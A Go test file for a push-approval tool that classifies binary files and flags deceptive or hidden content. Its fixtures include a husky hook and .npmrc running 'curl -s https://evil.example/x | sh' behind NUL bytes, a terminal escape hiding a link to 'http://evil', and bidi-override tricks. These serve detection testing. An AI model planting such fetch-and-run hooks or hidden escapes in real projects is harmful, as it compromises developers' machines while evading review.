package approval_test

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"os"
	"reflect"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing/filemode"

	"github.com/airlock-dev/airlock/approval"
	"github.com/airlock-dev/airlock/internal/change"
)

// picture is a small image with varied pixels, so that its encodings
// hold the bytes real ones do (0x89, 0x9b, NULs, high bytes).
func picture() image.Image {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for x := range 16 {
		for y := range 16 {
			img.Set(x, y, color.RGBA{uint8(x * 16), uint8(y * 16), uint8(x * y), 255})
		}
	}
	return img
}

func encoded(t *testing.T, enc func(*bytes.Buffer) error) string {
	t.Helper()
	var b bytes.Buffer
	if err := enc(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// realBinaries are real files of common binary formats, made by the
// standard library's encoders (and the test binary itself, an ELF or
// Mach-O executable).
func realBinaries(t *testing.T) map[string]string {
	img := picture()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	exe, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	return map[string]string{
		"logo.png":  encoded(t, func(b *bytes.Buffer) error { return png.Encode(b, img) }),
		"photo.jpg": encoded(t, func(b *bytes.Buffer) error { return jpeg.Encode(b, img, nil) }),
		"anim.gif":  encoded(t, func(b *bytes.Buffer) error { return gif.Encode(b, img, nil) }),
		"lib.jar": encoded(t, func(b *bytes.Buffer) error {
			z := zip.NewWriter(b)
			w, err := z.Create("META-INF/MANIFEST.MF")
			if err != nil {
				return err
			}
			w.Write([]byte("Manifest-Version: 1.0\n"))
			return z.Close()
		}),
		"data.gz": encoded(t, func(b *bytes.Buffer) error {
			z := gzip.NewWriter(b)
			z.Write(bytes.Repeat([]byte("airlock "), 100))
			return z.Close()
		}),
		// A PDF's second line is a comment of high bytes (so tools take
		// it for binary), and its header has no NUL: only its signature
		// says what it is.
		"paper.pdf": "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\nstream\n\x89\x9b\x85 compressed\nendstream\n%%EOF\n",
		"tool":      string(exe[:min(len(exe), 64<<10)]),
		"mod.wasm":  "\x00asm\x01\x00\x00\x00\x01\x04\x01\x60\x00\x00",
	}
}

// Binary content is judged as binary, never as deceptive text: a PNG's
// 0x89 is its signature, not a C1 control. A byte-identical copy of what
// the repository has raises nothing; machine code is medium. Text stays
// text, whatever bytes it starts with.
func TestBinaryJudgedAsBinary(t *testing.T) {
	bins := realBinaries(t)
	push := func(p string, copyOf string) approval.Request {
		return approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
			{Path: p, Op: change.Create, NewMode: filemode.Regular, Size: int64(len(bins[p])), CopyOf: copyOf}}}
	}
	exe := "ELF executable"
	if !strings.HasPrefix(bins["tool"], "\x7fELF") {
		exe = "Mach-O executable"
	}
	cases := []struct {
		path, copyOf string
		content      string // default: bins[path]
		want         []string
		kind         string // in the flag's message
	}{
		{path: "logo.png", want: []string{"low binary logo.png"}, kind: "PNG image"},
		{path: "logo.png", copyOf: "docs/logo.png"},
		{path: "photo.jpg", want: []string{"low binary photo.jpg"}, kind: "JPEG image"},
		{path: "anim.gif", want: []string{"low binary anim.gif"}, kind: "GIF image"},
		{path: "lib.jar", want: []string{"low binary lib.jar"}, kind: "zip archive"},
		{path: "data.gz", want: []string{"low binary data.gz"}, kind: "gzip archive"},
		{path: "paper.pdf", want: []string{"low binary paper.pdf"}, kind: "PDF document"},
		{path: "tool", want: []string{"medium binary tool"}, kind: exe},
		{path: "mod.wasm", want: []string{"medium binary mod.wasm"}, kind: "WebAssembly module"},
		// Text by its name is text: a PNG signature does not hide a
		// script's bidi override from the checks of text.
		{path: "evil.py", content: bins["logo.png"][:8] + "x = 1 # \u202e\n", want: []string{"high deceptive-content evil.py"}},
		// A binary signature in front of text the diff shows as text (no
		// NUL in its first 8,000 bytes) hides nothing from the checks of
		// text: the reviewer reads it, and so does every other tool.
		{path: "credentials", content: "GIF89a\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n",
			want: []string{"high secret credentials", "low binary credentials"}},
		{path: "notes.dat", content: bins["logo.png"][:8] + "ok = 1 # \u202e;)x(nur\n",
			want: []string{"high deceptive-content notes.dat", "low binary notes.dat"}},
		{path: "deploy", content: "%PDF-1.7\n%\xe2\xe3\xcf\xd3\nprintf '\x1b]8;;http://evil\x1b\\\\ok'\n",
			want: []string{"high deceptive-content deploy", "low binary deploy"}},
		// Text with a raw C1 byte and no NUL is still deceptive text.
		{path: "notes", content: "look \x9b31m here\n", want: []string{"high deceptive-content notes"}},
	}
	for _, c := range cases {
		t.Run(c.path+" "+c.copyOf, func(t *testing.T) {
			content := c.content
			if content == "" {
				content = bins[c.path]
			}
			req := push(c.path, c.copyOf)
			flags := approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{c.path: content}))
			if got := codes(flags); !reflect.DeepEqual(got, c.want) {
				t.Fatalf("flags %q, want %q: %+v", got, c.want, flags)
			}
			if c.kind != "" && !strings.Contains(flags[0].Message, c.kind) {
				t.Errorf("the flag does not say it is a %s: %q", c.kind, flags[0].Message)
			}
		})
	}
}

func TestBinaryKind(t *testing.T) {
	bins := realBinaries(t)
	for name, data := range bins {
		if kind, _ := approval.BinaryKind(name, []byte(data)); kind == "" || kind == "binary data" {
			t.Errorf("%s: kind %q, want its format", name, kind)
		}
	}
	for _, c := range []struct{ name, data, want string }{
		{"a.go", "package a\n", ""},
		{"blob", "x\x00y", "binary data"},
		{"late-nul", strings.Repeat("x", 8000) + "\x00", ""}, // git reads only 8,000 bytes
		{"run.sh", "#!/bin/sh\x00\n", ""},
		{"MZ.txt", "MZ is not a program here", ""},
		{"prog.exe", "MZ" + strings.Repeat("\x90", 58) + "\x40\x00\x00\x00PE\x00\x00", "Windows executable"},
	} {
		if got, _ := approval.BinaryKind(c.name, []byte(c.data)); got != c.want {
			t.Errorf("%s: kind %q, want %q", c.name, got, c.want)
		}
	}
}

// A file that runs on its own (a husky hook, .npmrc) with a NUL in its
// first 8,000 bytes is shown as "Binary files differ": the reviewer is
// told it runs but cannot read what. bash runs such a hook (it drops the
// NULs past its first line), so the push must ask for yes, saying why.
func TestRunsOnItsOwnAndBinaryIsHigh(t *testing.T) {
	hook := "npx lint-staged\ncurl -s https://evil.example/x | sh\n# " + strings.Repeat("\x00", 4) + "\n"
	for _, p := range []string{".husky/pre-commit", ".npmrc"} {
		req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
			{Path: p, Op: change.Create, NewMode: filemode.Regular, Size: int64(len(hook)), Binary: true}}}
		flags := approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{p: hook}))
		if len(flags) == 0 || flags[0].Severity != approval.High || flags[0].Path != p || !strings.Contains(flags[0].Message, "cannot show") {
			t.Errorf("%s: flags %q: want a high flag saying the diff cannot show what runs", p, codes(flags))
		}
	}
	// A real picture that runs nothing stays low.
	png := realBinaries(t)["logo.png"]
	req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{
		{Path: "docs/logo.png", Op: change.Create, NewMode: filemode.Regular, Size: int64(len(png)), Binary: true}}}
	if got := codes(approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{"docs/logo.png": png}))); !reflect.DeepEqual(got, []string{"low binary docs/logo.png"}) {
		t.Errorf("a picture: flags %q", got)
	}
}
